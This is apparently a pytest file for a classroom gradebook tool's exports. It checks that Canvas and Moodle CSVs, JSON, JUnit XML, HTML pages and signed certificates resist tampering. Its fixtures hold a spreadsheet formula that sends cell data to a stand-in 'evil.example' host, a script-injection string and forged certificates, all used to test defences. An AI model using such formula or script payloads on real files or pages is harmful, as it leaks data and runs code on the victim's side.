"""Marks as files, read back by the rules of whoever they are for."""

import csv
import io
import json
import re
from datetime import UTC, datetime
from html.parser import HTMLParser
from xml.etree import ElementTree

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as some

from labkit.classroom.exports import certificate, documents, paper, sheet
from labkit.classroom.exports.cells import cell, risky, table
from labkit.classroom.gradebook import Checked, Gradebook, Ids, Item, Learner, Mark, Origin, Review
from labkit.errors import LabError
from labkit.grading.report import Outcome
from labkit.lab.owner.workshop import Workshop
from labkit.seen.signature import Public

NOON = datetime(2027, 3, 5, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
MARKUP = "<script>alert(1)</script>"
NAMES = [
    "Ада Лавлейс",
    "山田太郎",
    "مريم الإسطرلابية",
    FORMULA,
    MARKUP,
    "Ann\nBob",
    "x\x00\x1b[2J\u202e",
    'O\'Hara, "Jo"',
    "@me",
]


def learner(number, name, **ids):
    return Learner(
        id=f"l{number}",
        name=name,
        email=f"l{number}@example.org",
        section="A",
        ids=Ids(**{"canvas": str(100 + number), "moodle": f"m{number}", "username": f"u{number}", **ids}),
    )


ITEMS = (
    Item(exercise="01-login", title="Sign in", maximum=4),
    Item(exercise="03-push", title="Final Score (7)", maximum=10, weight=2),
)


def mark(who, exercise, points, maximum, **more):
    checks = (
        Checked(id="a", claim="You did it.", outcome=Outcome.PASSED, points=1),
        Checked(id="b", claim="And that.", outcome=Outcome.NOT_YET, points=1, message=f"{MARKUP} \x0b\ud800"),
        Checked(id="c", claim="Then this.", outcome=Outcome.BLOCKED, points=1),
        Checked(id="d", claim="It broke.", outcome=Outcome.ERROR, points=1),
    )
    told = {"learner": who, "exercise": exercise, "points": points, "maximum": maximum, "at": NOON, "checks": checks}
    return Mark(**told | {"origin": Origin.OBSERVED} | more)


REVIEW = Review(
    learner="l0", exercise="01-login", at=NOON, rubric=(("Names the registry", True), ("Says why", False)),
    feedback=f"Good.\n{MARKUP}",
)  # fmt: skip


def book(names=NAMES, **more):
    learners = tuple(learner(number, name) for number, name in enumerate(names))
    marks = (mark("l0", "01-login", 3.5, 4), mark("l0", "03-push", 7, 10, overruled=FORMULA, comment=MARKUP))
    return Gradebook(**{"workshop": "Spring & <1>", "learners": learners, "items": ITEMS, "marks": marks, **more})


# What Canvas reads (canvas-lms, lib/gradebook_importer.rb; lib/.../assignment.rb: title_and_id)

SUMS = re.compile(
    "|".join(f"{a} {b}" for a in ("Current", "Final", "Override") for b in ("Score", "Points", "Grade", "Status"))
)


def delimiter(text):
    """As Canvas finds it, from the first three lines as they are."""
    counts = {}
    for sign in ";,":
        rows = [next(csv.reader([line], delimiter=sign, strict=True)) for line in text.split("\n")[:3]]
        widths = {len(row) for row in rows if row}
        counts[sign] = widths.pop() if len(widths) == 1 else 0
    return ";" if counts[";"] > counts[","] else ","


def canvas_reads(text, assignments):
    """{canvas id: {assignment: grade}} and the maxima. `assignments` is {number: title}, as Canvas has them."""
    assert delimiter(text) == ","
    head, *rows = csv.reader(io.StringIO(text, newline=""))
    assert "Student" in head[0] and "ID" in head[1] and "Section" in head[4], "Invalid header row"
    assert re.search(r"SIS\s+User\s+ID", head[2]) and re.search(r"SIS\s+Login\s+ID", head[3])
    columns = {}
    for title in head[5:]:
        assert not SUMS.search(title), f"{title} would be left out"
        numbered = re.fullmatch(r"(.+) \((\d+)\)", title)
        found = assignments.get(numbered[2]) if numbered else title
        columns[found or title] = head.index(title)
    grades, maxima = {}, {}
    for row in rows:
        assert len(row) == len(head)
        if "Points Possible" in row[0]:
            maxima = {name: float(row[at]) for name, at in columns.items()}
        else:
            assert row[1].isdigit() or row[2] or row[3], "found by name alone"
            grades[row[1] or row[2] or row[3]] = {name: row[at] for name, at in columns.items()}
    return grades, maxima


def test_canvas_reads_its_file():
    found = sheet.canvas(book(), {"03-push": "42"})
    grades, maxima = canvas_reads(found.text, {"42": "Push it"})
    assert maxima == {"01-login Sign in": 4, "Push it": 10}
    assert grades["100"] == {"01-login Sign in": "3.5", "Push it": "7"}
    assert grades["101"] == {"01-login Sign in": "", "Push it": ""}
    assert len(grades) == len(NAMES) and found.left_out == ()


def test_a_title_that_canvas_takes_for_a_sum_or_a_number_is_changed():
    _, maxima = canvas_reads(sheet.canvas(book()).text, {"7": "another assignment"})
    assert set(maxima) == {"01-login Sign in", "03-push"}


def test_titles_of_canvas_are_never_equal():
    twins = (Item(exercise="a", title="Push", maximum=1), Item(exercise="b", title="Push", maximum=1))
    _, maxima = canvas_reads(sheet.canvas(book(items=twins, marks=())).text, {})
    assert len(maxima) == 2


def test_whom_canvas_could_find_by_name_only_is_left_out():
    nobody = learner(1, "Eve", canvas="")
    formula = learner(2, "Mallory", canvas="", sis_user="=1+1")
    words = learner(3, "Trent", canvas="1,5")
    rows = learner(4, "    Points Possible", sis_login="trudy")
    found = sheet.canvas(book((), learners=(nobody, formula, words, rows), marks=()))
    assert [told.split(" has ")[0] for told in found.left_out] == ["Eve", "Mallory", "Trent"]
    grades, maxima = canvas_reads(found.text, {})
    assert set(grades) == {"104"} and maxima["01-login Sign in"] == 4


# What Moodle reads (grade/import/csv/classes/load_data.php)


def moodle_reads(text, by, known):
    """{user: {item: grade or feedback}}, as the importer goes through the rows: the user found last stays."""
    head, *rows = csv.reader(io.StringIO(text, newline=""))
    user, found = None, {}
    for row in rows:
        if len(row) <= 1:
            continue
        cells = [value.strip() for value in row]
        for title, value in zip(head, cells, strict=True):
            if title == by and value not in ("", "0"):
                assert value in known, f"user mapping error: {value}; the whole import ends"
                user = value
        assert user is not None
        for title, value in zip(head[2:], cells[2:], strict=True):
            number = None if value in ("", "-") or title.endswith("(feedback)") else float(value)
            found.setdefault(user, {})[title] = value if title.endswith("(feedback)") else number
    return found


@pytest.mark.parametrize(
    ("by", "first"), [("ID number", "m0"), ("Email address", "l0@example.org"), ("Username", "u0")]
)
def test_moodle_reads_its_file(by, first):
    found = sheet.moodle(book(), sheet.By(by))
    known = {
        one.email if by[0] == "E" else one.ids.moodle if by[0] == "I" else one.ids.username for one in book().learners
    }
    grades = moodle_reads(found.text, by, known)
    assert grades[first]["01-login Sign in"] == 3.5
    assert grades[first]["03-push Final Score (7)"] == 7
    assert grades[first]["03-push Final Score (7) (feedback)"] == (
        'Set by hand: =HYPERLINK("http://evil.example/?"&amp;A1). &lt;script&gt;alert(1)&lt;/script&gt; '
        "&lt;script&gt;alert(1)&lt;/script&gt; \\ud800"
    ), "what people said, and then what the checks said"
    assert len(grades) == len(NAMES)
    assert all(MARKUP not in str(value) for row in grades.values() for value in row.values())


@pytest.mark.attack(
    "evidence",
    "A learner without an id, whose points Moodle would give to the learner of the row before",
    "the learner is left out of the file, and named",
)
@pytest.mark.parametrize("missing", ["", " ", "0", "=x", "a\nb"])
def test_nobody_gets_the_points_of_the_row_before(missing):
    known, unknown = learner(0, "Ada"), learner(1, "Eve", moodle=missing)
    two = book((), learners=(known, unknown), marks=(mark("l0", "03-push", 7, 10), mark("l1", "03-push", 1, 10)))
    found = sheet.moodle(two, sheet.By.ID_NUMBER, feedback=False)
    assert moodle_reads(found.text, "ID number", {"m0"})["m0"]["03-push Final Score (7)"] == 7
    assert len(found.left_out) == 1 and found.left_out[0].startswith("Eve has ")


# Every table


@pytest.mark.attack(
    "files",
    "A name, comment or title that a spreadsheet would run as a formula",
    "each such cell begins with an apostrophe, on one line",
)
@pytest.mark.parametrize("made", [sheet.people, sheet.canvas, sheet.moodle])
def test_no_cell_is_a_formula(made):
    for row in csv.reader(io.StringIO(made(book()).text.removeprefix("\ufeff"), newline="")):
        for each in row:
            assert not each.lstrip().startswith(("=", "+", "-", "@", "\t")), each
            assert "\n" not in each and "\x1b" not in each and "\u202e" not in each


@pytest.mark.parametrize(
    "text", ["=1", " =1", "\t=1", "\r=1", "+1", "-1", "@SUM(A1)", "＝1", "\u3000=1", "|calc", "%0"]
)
def test_what_could_be_a_formula(text):
    assert risky(text)
    assert cell(text).startswith("'")


@given(some.text(max_size=60))
def test_a_cell_is_one_harmless_line(text):
    made = cell(text)
    assert not risky(made) and made.isprintable()
    assert next(csv.reader(io.StringIO(table([[made, "x"]]), newline=""))) == [made, "x"]


def test_a_long_text_is_cut_where_a_spreadsheet_would_cut_it():
    assert len(cell("a" * 100_000)) == 32_000


def test_the_table_for_people_says_where_each_mark_comes_from():
    head, first, second = list(csv.reader(io.StringIO(sheet.people(book()).text.removeprefix("\ufeff"))))[:3]
    told = dict(zip(head, first, strict=True))
    assert told["01-login: mark"] == "2027-03-05T12:00:00+00:00; observed"
    assert "set by hand: =HYPERLINK" in told["03-push: mark"]
    assert (told["Points"], told["Of"], told["Percent"]) == ("10.5", "14", "75.83")
    assert second[4:12] == [""] * 8


def test_what_was_said_of_a_text_is_in_every_file_that_has_a_place_for_it():
    """Also where there is no mark, and without running or marking up anything."""
    second = msgspec.structs.replace(REVIEW, learner="l1", feedback=FORMULA)
    given = book(reviews=(REVIEW, second))
    rubric = "1 of 2 lines of the rubric are met. Met: Names the registry. Not met: Says why."
    people = list(csv.DictReader(io.StringIO(sheet.people(given).text.removeprefix("\ufeff"))))
    assert (people[0]["01-login: rubric"], people[0]["01-login: feedback"]) == (rubric, f"Good. {MARKUP}")
    assert (people[1]["01-login: mark"], people[1]["01-login: feedback"]) == ("", f"'{FORMULA}")
    assert (people[0]["03-push: rubric"], people[2]["01-login: rubric"]) == ("", "")
    told = json.loads(documents.to_json(given))
    assert told["results"][0]["reviews"]["01-login"]["rubric"][1] == {"line": "Says why", "met": False}
    assert msgspec.convert(told["gradebook"], Gradebook, strict=False).review("l1", "01-login") == second
    suite = ElementTree.fromstring(documents.junit(given))[0]
    assert suite.find("properties/property[@name='rubric']").get("value") == rubric
    assert suite.find("properties/property[@name='feedback']").get("value") == f"Good.\n{MARKUP}"
    shown = documents.html(given)
    assert "Names the registry" in shown and MARKUP not in shown
    known = {one.email for one in given.learners}
    grades = moodle_reads(sheet.moodle(given).text, "Email address", known)
    told = grades["l0@example.org"]["01-login Sign in (feedback)"]
    assert told.startswith(f"{rubric} Good. &lt;script&gt;") and told.endswith("\\ud800"), "and the checks' message"
    assert grades["l1@example.org"]["01-login Sign in (feedback)"].endswith(
        'Says why. =HYPERLINK("http://evil.example/?"&amp;A1)'
    )
    assert sheet.canvas(given).text == sheet.canvas(book()).text, "it has no place"


def test_a_review_is_somebodys_and_of_something():
    for wrong in ({"learner": "nobody"}, {"exercise": "99-none"}, {"at": NOON.replace(tzinfo=None)}):
        with pytest.raises(ValueError, match=r"review"):
            book(reviews=(msgspec.structs.replace(REVIEW, **wrong),))


def test_json_holds_all_and_can_be_read_again():
    told = json.loads(documents.to_json(book()))
    assert msgspec.convert(told["gradebook"], Gradebook, strict=False).learners == book().learners
    assert told["results"][0]["total"]["percent"] == 75.83
    assert told["results"][0]["exercises"]["03-push"]["overruled"] == FORMULA
    assert told["results"][1]["exercises"]["03-push"] is None


def test_junit_is_xml_whatever_the_texts_hold():
    root = ElementTree.fromstring(documents.junit(book()))
    assert len(root) == len(NAMES) * len(ITEMS)
    first = root[0]
    assert [case.get("name") for case in first.iter("testcase")][1] == "b: And that."
    assert {tag: first.get(tag) for tag in ("tests", "failures", "errors", "skipped")} == {
        "tests": "4",
        "failures": "1",
        "errors": "1",
        "skipped": "1",
    }
    assert first.find(".//failure").text == MARKUP + " \\u000b\\ud800"
    assert int(root.get("tests")) == sum(int(suite.get("tests")) for suite in root)
    assert root[1].find("properties/property[@name='overruled']").get("value") == FORMULA
    assert root[2].find("testcase/skipped") is not None


@pytest.mark.attack(
    "pages",
    "Markup in names and reasons, in the page of marks",
    "it is shown as text, and the page may run nothing",
)
def test_the_page_runs_nothing():
    class Tags(HTMLParser):
        seen = set()  # noqa: RUF012

        def handle_starttag(self, tag, attrs):
            self.seen.add(tag)
            assert not [name for name, _ in attrs if name.startswith("on") or name in ("src", "href")]

    page = documents.html(book())
    reader = Tags()
    reader.feed(page)
    assert "script" not in reader.seen and "table" in reader.seen
    assert "山田太郎" in page and "set by hand" in page


# Certificates

SPRING = Workshop("spring", b"k" * 32)
OTHER = Workshop("spring", b"o" * 32)


def earning(**more):
    told = {"certificate": 0.7, "workshop": "spring", **more}
    return book(["Ада Lovelace"], **told)


def given_out(workshop=SPRING, **more):
    return certificate.signed(certificate.earned(earning(**more), "l0", NOON, workshop.public.public), workshop.sign)


def test_a_certificate_is_off_unless_the_workshop_says_so():
    with pytest.raises(LabError, match="gives no certificates"):
        certificate.earned(earning(certificate=None), "l0", NOON, "")
    for wrong in (0, -1, 1.1, float("nan")):
        with pytest.raises(ValueError):
            earning(certificate=wrong)


def test_a_certificate_says_what_was_reached_and_anyone_can_check_it():
    made = given_out()
    assert certificate.verified(made.dump(), SPRING.public) == made
    assert (made.name, made.share) == ("Ада Lovelace", 0.7583)
    assert [(part.exercise, part.points) for part in made.parts] == [("01-login", 3.5), ("03-push", 7)]


def test_what_only_the_learners_machine_said_earns_none():
    told = (mark("l0", "01-login", 4, 4, origin=Origin.REPORTED), mark("l0", "03-push", 7, 10))
    with pytest.raises(LabError, match="not counting what only their own machine said"):
        given_out(marks=told)
    with pytest.raises(LabError, match="no learner"):
        certificate.earned(earning(), "eve", NOON, "")


@pytest.mark.attack(
    "evidence",
    "A certificate with another name, share, or signature",
    "it is refused: its signature does not match",
)
@pytest.mark.parametrize(
    "change",
    [
        {"name": "Eve"},
        {"share": 1.0},
        {"learner": "eve"},
        {"value": ""},
        {"value": "AAAA"},
        {"value": "ü"},
        {"parts": []},
    ],
)
def test_a_changed_certificate_is_refused(change):
    told = json.dumps({**json.loads(given_out().dump()), **change}).encode()
    with pytest.raises(LabError, match="does not match"):
        certificate.verified(told, SPRING.public)


def test_another_key_and_another_workshop_are_refused():
    with pytest.raises(LabError, match="different key"):
        certificate.verified(given_out(OTHER).dump(), SPRING.public)
    autumn = Public(workshop="autumn", public=SPRING.public.public)
    with pytest.raises(LabError, match="of the workshop spring, not of autumn"):
        certificate.verified(given_out().dump(), autumn)


@pytest.mark.parametrize("text", [b"", b"[]", b"{}", b"\xff", b"[" * 9999, b'{"name":1,"name":2}', b'{"share":NaN}'])
def test_what_is_no_certificate(text):
    with pytest.raises(LabError, match="not a certificate"):
        certificate.verified(text, SPRING.public)


def test_the_signature_of_an_observation_passes_for_none():
    """The purpose is under the signature: what was signed for one thing holds for no other."""
    made = given_out()
    plain = certificate._message(msgspec.to_builtins(made)).removeprefix(certificate.PURPOSE)
    forged = msgspec.structs.replace(made, value=SPRING.sign(b"registry-lab observation 1\n" + plain))
    with pytest.raises(LabError, match="does not match"):
        certificate.verified(forged.dump(), SPRING.public)


def a_font(folder, letters):
    """A font with these letters and a box for each."""
    from fontTools.fontBuilder import FontBuilder
    from fontTools.pens.ttGlyphPen import TTGlyphPen

    pen = TTGlyphPen(None)
    pen.moveTo((0, 0))
    pen.lineTo((0, 500))
    pen.lineTo((500, 500))
    pen.closePath()
    names = {ord(letter): f"u{ord(letter):04X}" for letter in letters}
    glyphs = [".notdef", *names.values()]
    made = FontBuilder(1000, isTTF=True)
    made.setupGlyphOrder(glyphs)
    made.setupCharacterMap(names)
    made.setupGlyf(dict.fromkeys(glyphs, pen.glyph()))
    made.setupHorizontalMetrics(dict.fromkeys(glyphs, (600, 0)))
    made.setupHorizontalHeader(ascent=800, descent=-200)
    made.setupNameTable({"familyName": "Test", "styleName": "Regular"})
    made.setupOS2(sTypoAscender=800, sTypoDescender=-200)
    made.setupPost()
    made.save(folder / "Test.ttf")
    return folder / "Test.ttf"


def test_the_paper_carries_the_signed_text(monkeypatch):
    monkeypatch.setattr(paper, "FOLDERS", ())
    made = msgspec.structs.replace(given_out(), name="Jürgen Özil")
    page = paper.pdf(made)
    assert page.startswith(b"%PDF-") and b"certificate.json" in page
    assert page == paper.pdf(made), "the same certificate gives the same file"


def test_a_name_in_another_script_needs_a_font_that_has_it(monkeypatch, tmp_path):
    monkeypatch.setattr(paper, "FOLDERS", ())
    with pytest.raises(LabError, match="No font on this machine") as refused:
        paper.pdf(given_out())
    assert "--font" in refused.value.fix
    letters = "".join(map(chr, range(33, 127))) + "·Ада"
    assert b"FontFile2" in paper.pdf(given_out(), (a_font(tmp_path, letters),))


def test_a_certificate_of_many_exercises_stays_on_one_page(monkeypatch):
    monkeypatch.setattr(paper, "FOLDERS", ())
    part = certificate.Part(exercise="e", title="t" * 300, points=1, maximum=1)
    made = msgspec.structs.replace(given_out(), name="W" * 500, parts=(part,) * 40)
    assert paper.pdf(made).count(b"/Type /Page\n") == 1
